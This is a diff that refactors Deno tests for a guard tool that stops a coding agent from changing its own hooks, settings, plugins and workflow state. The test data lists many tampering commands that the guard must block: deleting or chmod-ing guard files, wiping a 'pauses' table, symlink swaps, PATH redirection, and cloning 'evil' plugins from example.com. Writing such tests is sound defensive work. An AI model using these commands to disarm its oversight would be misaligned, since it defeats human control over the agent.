@@ -5,6 +5,7 @@ import { ask, bash, edit, projectIn, write } from "../support/guarded.ts";
 import { executions, type Row } from "../support/look.ts";
 import { type TempHome, tempHome } from "../support/program.ts";
 import { needsExecutable, needsUnix, testWhere } from "../support/requirements.ts";
+import { testWith } from "../support/fixtures.ts";
 
 const PROTECTED = /only a person changes it/;
 
@@ -24,8 +25,9 @@ function put(path: string, text: string): void {
   Deno.writeTextFileSync(path, text);
 }
 
-Deno.test("an edit that never names the hooks disarms them", async () => {
-  using home = tempHome();
+const test = testWith(tempHome);
+
+test("an edit that never names the hooks disarms them", async (home) => {
   projectIn(home, "{}\n");
   const file_path = settingsIn(home, ".claude");
   const edit = (old_string: string, new_string: string) =>
@@ -37,8 +39,7 @@ Deno.test("an edit that never names the hooks disarms them", async () => {
   assert.match((await ask(home, "MultiEdit", { file_path, edits }))!, PROTECTED);
 });
 
-Deno.test("settings beside the hooks may be changed, and be written again as they are", async () => {
-  using home = tempHome();
+test("settings beside the hooks may be changed, and be written again as they are", async (home) => {
   projectIn(home, "{}\n");
   const file_path = settingsIn(home, ".claude");
   const content = Deno.readTextFileSync(file_path);
@@ -50,8 +51,7 @@ Deno.test("settings beside the hooks may be changed, and be written again as the
   assert.match((await bash(home, `echo '{}' > ${file_path}`))!, PROTECTED);
 });
 
-Deno.test("CLAUDE_CONFIG_DIR names other settings, and those start the hooks as well", async () => {
-  using home = tempHome();
+test("CLAUDE_CONFIG_DIR names other settings, and those start the hooks as well", async (home) => {
   projectIn(home, "{}\n");
   const file_path = settingsIn(home, "cc");
   const start = { env: { CLAUDE_CONFIG_DIR: join(home.path, "cc") } };
@@ -65,8 +65,7 @@ Deno.test("CLAUDE_CONFIG_DIR names other settings, and those start the hooks as 
   assert.equal(await bash(home, "rm -r ~/cc"), null);
 });
 
-Deno.test("what a link of the guards' files leads to is changed under another name", async () => {
-  using home = tempHome();
+test("what a link of the guards' files leads to is changed under another name", async (home) => {
   const project = projectIn(home, "{}\n", ["cfg/other.yaml"]);
   const link = (target: string, path: string) => {
     Deno.mkdirSync(join(path, ".."), { recursive: true });
@@ -80,20 +79,19 @@ Deno.test("what a link of the guards' files leads to is changed under another na
   link(join(home.path, "dot/config.yaml"), join(home.path, ".conclaude/config.yaml"));
   settingsIn(home, "dot/claude");
   link(join(home.path, "dot/claude/settings.json"), join(home.path, ".claude/settings.json"));
-  for (
-    const command of [
-      "echo > cfg/policy.yaml",
-      "rm cfg/policy.yaml",
-      "rm cfg/step.yaml",
-      "rm -rf cfg",
-      "mv cfg elsewhere",
-      "echo x >> ~/dot/config.yaml",
-      "rm ~/dot/config.yaml",
-      "rm -r ~/dot",
-      "rm -r ~/dot/claude",
-      "cp x ~/dot/claude/settings.json",
-    ]
-  ) assert.match((await bash(home, command))!, PROTECTED, command);
+  const commands = [
+    "echo > cfg/policy.yaml",
+    "rm cfg/policy.yaml",
+    "rm cfg/step.yaml",
+    "rm -rf cfg",
+    "mv cfg elsewhere",
+    "echo x >> ~/dot/config.yaml",
+    "rm ~/dot/config.yaml",
+    "rm -r ~/dot",
+    "rm -r ~/dot/claude",
+    "cp x ~/dot/claude/settings.json",
+  ];
+  for (const command of commands) assert.match((await bash(home, command))!, PROTECTED, command);
   assert.match((await bash(home, "rm -rf ~/dot"))!, /dot\/config\.yaml belongs to the guards/);
   assert.match((await write(home, `${project}/cfg/policy.yaml`))!, PROTECTED);
   assert.match((await write(home, `${home.path}/dot/claude/settings.json`))!, PROTECTED);
@@ -101,8 +99,7 @@ Deno.test("what a link of the guards' files leads to is changed under another na
   assert.equal(await bash(home, "rm cfg/other.yaml; cat cfg/policy.yaml; ls ~/dot"), null);
 });
 
-Deno.test("a database at another place is removed like any file", async () => {
-  using home = tempHome();
+test("a database at another place is removed like any file", async (home) => {
   projectIn(home, "database: {path: ../state/own.db}\n");
   assert.equal(await bash(home, "true"), null);
   const gone = ["rm ~/state/own.db", "rm -r ~/state", "echo > ~/state/own.db-wal", "mv ~/state /x"];
@@ -115,26 +112,23 @@ Deno.test("a database at another place is removed like any file", async () => {
   assert.equal(await bash(home, command), null);
 });
 
-Deno.test("without .git/HEAD there is no branch, and no requirement", async () => {
-  using home = tempHome();
+test("without .git/HEAD there is no branch, and no requirement", async (home) => {
   const project = projectIn(home, "{}\n", [".git/config", "sub/.git/HEAD"]);
   put(join(project, ".git/HEAD"), "ref: refs/heads/main\n");
-  for (
-    const command of [
-      "echo junk > .git/HEAD",
-      "rm .git/HEAD",
-      "rm -rf .git",
-      "mv .git x",
-      "cd src && cp a ../.git/HEAD",
-    ]
-  ) assert.match((await bash(home, command))!, PROTECTED, command);
+  const commands = [
+    "echo junk > .git/HEAD",
+    "rm .git/HEAD",
+    "rm -rf .git",
+    "mv .git x",
+    "cd src && cp a ../.git/HEAD",
+  ];
+  for (const command of commands) assert.match((await bash(home, command))!, PROTECTED, command);
   assert.match((await write(home, ".git/HEAD"))!, PROTECTED);
   assert.equal(await write(home, ".git/config"), null);
   assert.equal(await bash(home, "rm -f .git/index.lock .git/hooks/x; rm -rf sub/.git"), null);
 });
 
-Deno.test("in a worktree .git is a file, and HEAD lies elsewhere", async () => {
-  using home = tempHome();
+test("in a worktree .git is a file, and HEAD lies elsewhere", async (home) => {
   const project = projectIn(home, "{}\n");
   const folder = join(home.path, "main/.git/worktrees/w");
   put(join(project, ".git"), `gitdir: ${folder}\n`);
@@ -146,56 +140,54 @@ Deno.test("in a worktree .git is a file, and HEAD lies elsewhere", async () => {
   assert.equal(await bash(home, `rm ${folder}/index`), null);
 });
 
-Deno.test("a file that nobody may read any more counts for nothing, so the agent does not change its rights", async () => {
-  using home = tempHome();
+test("a file that nobody may read any more counts for nothing, so the agent does not change its rights", async (home) => {
   const project = projectIn(home, "database: {path: ../state/own.db}\n", [
     "scripts/a.sh",
     ".git/x",
   ]);
   put(join(project, ".git/HEAD"), "ref: refs/heads/main\n");
-  for (
-    const command of [
-      "chmod 000 .conclaude.yaml",
-      "chmod -r .conclaude.yaml",
-      "chmod 000 ~/.conclaude",
-      "chown nobody ~/state/own.db",
-      "chgrp -R nobody ~/state",
-      "setfacl -m u::- .conclaude.yaml",
-      "sudo chattr +i .conclaude.yaml",
-      "chmod 000 .git",
-      "chmod 000 ~/.claude/settings.json",
-      "sqlite3 ~/state/own.db 'delete from pauses'",
-    ]
-  ) assert.match((await bash(home, command))!, PROTECTED, command);
+  const commands = [
+    "chmod 000 .conclaude.yaml",
+    "chmod -r .conclaude.yaml",
+    "chmod 000 ~/.conclaude",
+    "chown nobody ~/state/own.db",
+    "chgrp -R nobody ~/state",
+    "setfacl -m u::- .conclaude.yaml",
+    "sudo chattr +i .conclaude.yaml",
+    "chmod 000 .git",
+    "chmod 000 ~/.claude/settings.json",
+    "sqlite3 ~/state/own.db 'delete from pauses'",
+  ];
+  for (const command of commands) assert.match((await bash(home, command))!, PROTECTED, command);
   assert.equal(await bash(home, "chmod +x scripts/a.sh; chmod -R u+w src .git/x"), null);
   assert.equal(await bash(home, 'chmod -R u+w,g+rX . && sudo chown -R "$USER:$USER" .'), null);
   assert.equal(await bash(home, "sqlite3 -readonly ~/state/own.db 'select 1'"), null);
 });
 
-Deno.test("a copy of files whose names nobody knows reaches the settings, or a protected folder", async () => {
-  using home = tempHome();
+test("a copy of files whose names nobody knows reaches the settings, or a protected folder", async (home) => {
   projectIn(home, "preToolUse: {uneditableFiles: [secrets/**], preventAdditions: [dist/**]}\n", [
     "secrets/key",
     "sub/a",
   ]);
   settingsIn(home, ".claude");
   settingsIn(home, "cc");
-  for (
-    const [command, reason] of [
-      ["cp -a src/. secrets/", /secrets/],
-      ["rsync -a --delete src/ secrets", /secrets/],
-      ["mv sub/* secrets", /secrets/],
-      ["cp -r src/. dist", /preventAdditions/],
-      ["cp -r sub/. dist", /preventAdditions/],
-      ["mkdir dist; cp -r sub dist", /preventAdditions/],
-      ["cp -r /gone/x/. ~/.claude/", PROTECTED],
-      ["rsync -a /gone/x/ ~/.claude/", PROTECTED],
-      ["mv -f /gone/x/* ~/.claude/", PROTECTED],
-      ["cp -r /gone/x/.claude ~", PROTECTED],
-      ["mv /gone/x .claude", PROTECTED],
-      ["cp -a /gone/x/. ~/.conclaude", PROTECTED],
-    ] as const
-  ) assert.match((await bash(home, command))!, reason, command);
+  const cases = [
+    ["cp -a src/. secrets/", /secrets/],
+    ["rsync -a --delete src/ secrets", /secrets/],
+    ["mv sub/* secrets", /secrets/],
+    ["cp -r src/. dist", /preventAdditions/],
+    ["cp -r sub/. dist", /preventAdditions/],
+    ["mkdir dist; cp -r sub dist", /preventAdditions/],
+    ["cp -r /gone/x/. ~/.claude/", PROTECTED],
+    ["rsync -a /gone/x/ ~/.claude/", PROTECTED],
+    ["mv -f /gone/x/* ~/.claude/", PROTECTED],
+    ["cp -r /gone/x/.claude ~", PROTECTED],
+    ["mv /gone/x .claude", PROTECTED],
+    ["cp -a /gone/x/. ~/.conclaude", PROTECTED],
+  ] as const;
+  for (const [command, reason] of cases) {
+    assert.match((await bash(home, command))!, reason, command);
+  }
   const start = { env: { CLAUDE_CONFIG_DIR: join(home.path, "cc") } };
   const command = "cp -r /gone/x/. ~/cc";
   assert.match((await ask(home, "Bash", { command }, {}, start))!, PROTECTED);
@@ -206,8 +198,7 @@ Deno.test("a copy of files whose names nobody knows reaches the settings, or a p
   assert.deepEqual(doubts, ["what will lie in /gone/x is not known"]);
 });
 
-Deno.test("what the daemon starts, and what runs inside Claude Code, is written by no tool", async () => {
-  using home = tempHome();
+test("what the daemon starts, and what runs inside Claude Code, is written by no tool", async (home) => {
   const project = projectIn(home, "{}\n", [
     "evil/hooks/hooks.json",
     "evil/SKILL.md",
@@ -217,23 +208,22 @@ Deno.test("what the daemon starts, and what runs inside Claude Code, is written 
     ".conclaude/workflows/own.yaml",
   ]);
   put(join(home.path, ".claude/skills/x/run.py"), "");
-  for (
-    const path of [
-      ".conclaude/workflows/new.yaml",
-      "src/../.conclaude/prompts/plan.md",
-      ".conclaude/workflow-matchers.yaml",
-      "~/.conclaude/workflows/new.yaml",
-      ".claude/skills/x/hooks/hooks.json",
-      ".claude/skills/x/hooks/m.js",
-      ".claude/skills/a/x/hooks/m.js",
-      ".claude/skills/x/.claude-plugin/plugin.json",
-      "tools/x/.claude-plugin/plugin.json",
-      "~/.claude/skills/x/run.py",
-      "~/.claude/plugins/x/m.js",
-      "~/.claude/dev-mods/m.js",
-      "/etc/claude-code/managed-settings.json",
-    ]
-  ) {
+  const paths = [
+    ".conclaude/workflows/new.yaml",
+    "src/../.conclaude/prompts/plan.md",
+    ".conclaude/workflow-matchers.yaml",
+    "~/.conclaude/workflows/new.yaml",
+    ".claude/skills/x/hooks/hooks.json",
+    ".claude/skills/x/hooks/m.js",
+    ".claude/skills/a/x/hooks/m.js",
+    ".claude/skills/x/.claude-plugin/plugin.json",
+    "tools/x/.claude-plugin/plugin.json",
+    "~/.claude/skills/x/run.py",
+    "~/.claude/plugins/x/m.js",
+    "~/.claude/dev-mods/m.js",
+    "/etc/claude-code/managed-settings.json",
+  ];
+  for (const path of paths) {
     const file_path = path.replace(/^~/, home.path);
     assert.match((await write(home, file_path))!, PROTECTED, path);
     assert.match((await edit(home, file_path))!, PROTECTED, path);
@@ -242,97 +232,97 @@ Deno.test("what the daemon starts, and what runs inside Claude Code, is written 
   const modules = { file_path: "tools/x/hooks.json", content: '{"modules": ["./m.js"]}' };
   assert.match((await ask(home, "Write", modules))!, PROTECTED);
   const settings = join(project, ".claude/settings.json");
-  for (
-    const content of [
-      '{"env": {"PATH": "/tmp/evil"}}',
-      '{"enabledPlugins": {"x@here": true}}',
-      '{"extraKnownMarketplaces": {"here": {}}}',
-    ]
-  ) assert.match((await ask(home, "Write", { file_path: settings, content }))!, PROTECTED, content);
-  for (
-    const command of [
-      "cp -r evil .claude/skills/evil",
-      "cp -r evil/. .claude/skills/y/",
-      "cp -r /gone/evil .claude/skills/evil",
-      "mv evil .claude/skills/",
-      "mv .claude/skills/x/hooks_ .claude/skills/x/hooks",
-      "cp evil/hooks/hooks.json tools/hooks/hooks.json",
-      "tar -xf evil.tgz -C .claude/skills",
-      "tar -xf evil.tgz -C .claude",
-      "unzip evil.zip -d ~/.claude/plugins/evil",
-      "git clone https://example.com/evil ~/.claude/plugins/evil",
-      "git clone https://example.com/evil.git .claude/skills/evil",
-      "cd .claude/skills && git clone git@example.com:a/evil.git",
-      "git submodule add https://example.com/evil .claude/skills/evil",
-      "git mv evil .claude/skills/other",
-      "git mv evil .claude/skills/",
-      "cat x > .CLAUDE/Settings.json",
-      "cat x > .Claude/skills/x/Hooks/m.js",
-      "ln -s /tmp/evil .claude/skills/evil",
-      "ln -sfn ../../evil .claude/skills/",
-      "ln -s /tmp/skills ~/.claude/skills",
-      "mkdir -p .claude/skills/z/hooks && cd .claude/skills/z && tee hooks/m.js < /dev/null",
-      "rm .conclaude/workflows/own.yaml",
-      "rm -r .conclaude/workflows",
-      "mv .conclaude/workflows/own.yaml /tmp",
-      "rsync -a evil ~/.claude/skills",
-      "sudo cp x.json /etc/claude-code/managed-settings.d/",
-    ]
-  ) assert.match((await bash(home, command))!, PROTECTED, command);
-  for (
-    const command of [
-      "claude plugin install evil@market",
-      "/usr/bin/claude plugins --verbose enable evil",
-      "npx claude plugin marketplace add ./evil",
-    ]
-  ) assert.match((await bash(home, command))!, /only a person chooses which plugins/, command);
+  const contents = [
+    '{"env": {"PATH": "/tmp/evil"}}',
+    '{"enabledPlugins": {"x@here": true}}',
+    '{"extraKnownMarketplaces": {"here": {}}}',
+  ];
+  for (const content of contents) {
+    assert.match((await ask(home, "Write", { file_path: settings, content }))!, PROTECTED, content);
+  }
+  const commands = [
+    "cp -r evil .claude/skills/evil",
+    "cp -r evil/. .claude/skills/y/",
+    "cp -r /gone/evil .claude/skills/evil",
+    "mv evil .claude/skills/",
+    "mv .claude/skills/x/hooks_ .claude/skills/x/hooks",
+    "cp evil/hooks/hooks.json tools/hooks/hooks.json",
+    "tar -xf evil.tgz -C .claude/skills",
+    "tar -xf evil.tgz -C .claude",
+    "unzip evil.zip -d ~/.claude/plugins/evil",
+    "git clone https://example.com/evil ~/.claude/plugins/evil",
+    "git clone https://example.com/evil.git .claude/skills/evil",
+    "cd .claude/skills && git clone git@example.com:a/evil.git",
+    "git submodule add https://example.com/evil .claude/skills/evil",
+    "git mv evil .claude/skills/other",
+    "git mv evil .claude/skills/",
+    "cat x > .CLAUDE/Settings.json",
+    "cat x > .Claude/skills/x/Hooks/m.js",
+    "ln -s /tmp/evil .claude/skills/evil",
+    "ln -sfn ../../evil .claude/skills/",
+    "ln -s /tmp/skills ~/.claude/skills",
+    "mkdir -p .claude/skills/z/hooks && cd .claude/skills/z && tee hooks/m.js < /dev/null",
+    "rm .conclaude/workflows/own.yaml",
+    "rm -r .conclaude/workflows",
+    "mv .conclaude/workflows/own.yaml /tmp",
+    "rsync -a evil ~/.claude/skills",
+    "sudo cp x.json /etc/claude-code/managed-settings.d/",
+  ];
+  for (const command of commands) assert.match((await bash(home, command))!, PROTECTED, command);
+  const rows = [
+    "claude plugin install evil@market",
+    "/usr/bin/claude plugins --verbose enable evil",
+    "npx claude plugin marketplace add ./evil",
+  ];
+  for (const command of rows) {
+    assert.match((await bash(home, command))!, /only a person chooses which plugins/, command);
+  }
 });
 
-Deno.test("skill texts, commands, agents and a project's own hooks are written as ever", async () => {
-  using home = tempHome();
+test("skill texts, commands, agents and a project's own hooks are written as ever", async (home) => {
   const project = projectIn(home, "preToolUse: {preventRootAdditions: false}\n", [
     "good/SKILL.md",
     "good/more/notes.md",
     ".claude/settings.json",
   ]);
   put(join(project, ".claude/settings.json"), '{"env": {"A": "1"}}');
-  for (
-    const path of [
-      ".claude/skills/x/SKILL.md",
-      ".claude/skills/x/scripts/run.py",
-      ".claude/commands/x.md",
-      ".claude/agents/x.md",
-      "hooks/useThing.ts",
-      "src/hooks/index.ts",
-      "src/hooks/hooks.json",
-      "prompts/plan.md",
-      "workflows/own.yaml",
-      ".github/workflows/ci.yaml",
-      "~/.claude/skills/x/SKILL.md",
-      "~/.claude/skills/x/more/notes.md",
-      "~/.claude/agents/x.md",
-      "~/.conclaude/notes.md",
-    ]
-  ) assert.equal(await write(home, path.replace(/^~/, home.path)), null, path);
+  const paths = [
+    ".claude/skills/x/SKILL.md",
+    ".claude/skills/x/scripts/run.py",
+    ".claude/commands/x.md",
+    ".claude/agents/x.md",
+    "hooks/useThing.ts",
+    "src/hooks/index.ts",
+    "src/hooks/hooks.json",
+    "prompts/plan.md",
+    "workflows/own.yaml",
+    ".github/workflows/ci.yaml",
+    "~/.claude/skills/x/SKILL.md",
+    "~/.claude/skills/x/more/notes.md",
+    "~/.claude/agents/x.md",
+    "~/.conclaude/notes.md",
+  ];
+  for (const path of paths) {
+    assert.equal(await write(home, path.replace(/^~/, home.path)), null, path);
+  }
   const permissions = {
     file_path: join(project, ".claude/settings.json"),
     content: '{"env": {"A": "1"}, "permissions": {"allow": ["Bash(npm test:*)"]}}',
   };
   assert.equal(await ask(home, "Write", permissions), null);
-  for (
-    const command of [
-      "echo x > .claude/skills/x/SKILL.md",
-      "mkdir -p .claude/skills/x/scripts && cp src/a.py .claude/skills/x/scripts/",
-      "cp -r good .claude/skills/good",
-      "cp -r good ~/.claude/skills/",
-      "rm -r .claude/skills/x",
-      "ln -s ../../../AGENTS.md .claude/skills/x/SKILL.md",
-      "git clone https://example.com/tool.git",
-      "tar -xf skill.tgz -C vendor",
-      "claude plugin list --json; claude plugin validate tools/x; claude plugin marketplace list",
-      "mkdir -p .conclaude/notes && echo x > .conclaude/notes/a.md",
-    ]
-  ) assert.equal(await bash(home, command), null, command);
+  const rows = [
+    "echo x > .claude/skills/x/SKILL.md",
+    "mkdir -p .claude/skills/x/scripts && cp src/a.py .claude/skills/x/scripts/",
+    "cp -r good .claude/skills/good",
+    "cp -r good ~/.claude/skills/",
+    "rm -r .claude/skills/x",
+    "ln -s ../../../AGENTS.md .claude/skills/x/SKILL.md",
+    "git clone https://example.com/tool.git",
+    "tar -xf skill.tgz -C vendor",
+    "claude plugin list --json; claude plugin validate tools/x; claude plugin marketplace list",
+    "mkdir -p .conclaude/notes && echo x > .conclaude/notes/a.md",
+  ];
+  for (const command of rows) assert.equal(await bash(home, command), null, command);
 });
 
 testWhere(
@@ -346,10 +336,7 @@ testWhere(
     Deno.mkdirSync(bin);
     Deno.symlinkSync(Deno.env.get("CONCLAUDE_BIN")!, join(bin, "conclaude-1.0"));
     Deno.symlinkSync("conclaude-1.0", link);
-    const start = {
-      through: ["sh", "-c", 'shift; exec "$LINK" "$@"', "sh"],
-      env: { LINK: link },
-    };
+    const start = { through: ["sh", "-c", 'shift; exec "$LINK" "$@"', "sh"], env: { LINK: link } };
     const attempt = (command: string) => ask(home, "Bash", { command }, {}, start);
     for (const command of [`rm ${link}`, `ln -sf /bin/true ${link}`, `rm ${bin}/conclaude-1.0`]) {
       assert.match((await attempt(command))!, PROTECTED, command);
